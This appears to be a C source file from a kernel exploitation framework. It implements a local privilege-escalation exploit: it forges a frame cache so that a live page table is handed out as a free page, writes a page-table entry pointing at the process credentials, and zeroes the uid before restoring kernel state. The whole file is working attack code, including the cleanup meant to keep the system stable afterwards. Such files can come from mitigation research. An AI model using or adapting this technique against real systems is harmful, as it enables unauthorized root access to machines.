/* A page table of its own counts as a free frame: the next page fault makes it a page of its own,
 * in which it writes an entry for the credentials. */
#include "attack.h"

#define ENTRY_FRAME 0xffffffffff000ul

/* The frame was no free one, and must not become one with the process. */
static void put_right(const struct bw_leak *leak, volatile char *page,
		      const struct attack_frame_books *books, uint64_t alias, uint64_t entry_alias)
{
	uint64_t place;

	if (attack_entry(leak, leak->root, (uintptr_t)page, &place) != 0) {
		attack_check("vuln_write", bw_vuln_write(place, 0));
		attack_add(leak->nr_pages, -1ul);
		attack_add(leak->nr_handed_out, -1ul);
	}
	/* some variants of XPFO took it from the direct map */
	if (attack_entry(leak, leak->kernel_root, alias, &place) == 0 && entry_alias != 0) {
		attack_check("vuln_write", bw_vuln_write(place, entry_alias));
	}
	attack_frame_books_restore(books);
}

int main(void)
{
	volatile char *range = attack_ranges(true);
	volatile char *page = &range[ATTACK_RANGE_BYTES + BW_PAGE_SIZE];
	volatile uint64_t *entries = (volatile uint64_t *)(volatile void *)page;
	uint64_t first, place, table, alias, entry_alias, before;
	struct attack_frame_books books;
	struct bw_leak leak;

	attack_begin(&leak, 1, 0);
	first = attack_entry(&leak, leak.root, (uintptr_t)range, &place);
	alias = place & -(uint64_t)BW_PAGE_SIZE;
	table = (alias - leak.direct_map_base) / BW_PAGE_SIZE;
	entry_alias = attack_entry(&leak, leak.kernel_root, alias, &place);
	attack_frame_books_read(&leak, table, &books);

	attack_say("frame 0x%lx is a page table; the cache at 0x%lx has it for a free one", table,
		   leak.frame_cache.slots);
	attack_frame_books_free(&books);
	before = attack_stock_forge(&leak.frame_cache, table);
	entries[0] = first; /* a page fault, and then the page table is a page */
	entries[1] = (first & ~ENTRY_FRAME) | (leak.uid_pa & ENTRY_FRAME);
	attack_say("its second entry shows frame 0x%lx, which the credentials are in",
		   attack_entry_frame(leak.uid_pa));
	*(volatile uint32_t *)(volatile void *)&range[BW_PAGE_SIZE + leak.uid_pa % BW_PAGE_SIZE] =
		0;
	entries[1] = 0;
	put_right(&leak, page, &books, alias, entry_alias);
	attack_stock_return(&leak.frame_cache, before);
	return attack_finish();
}
